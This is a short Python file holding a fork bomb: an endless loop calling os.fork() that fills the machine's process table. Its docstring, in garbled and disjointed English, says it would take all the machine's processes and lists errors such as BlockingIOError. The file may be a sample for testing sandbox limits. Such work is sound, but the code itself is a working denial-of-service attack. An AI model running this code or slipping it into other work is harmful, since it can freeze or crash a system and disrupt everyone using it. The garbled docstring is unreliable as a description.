"""Processes that start processes, without end.

base  wheat
where a cell after solution_schedule
told  BlockingIOError|ended the kernel|temporarily unavailable|in time
plain it would take all processes of the machine
"""

import os

while True:
    os.fork()
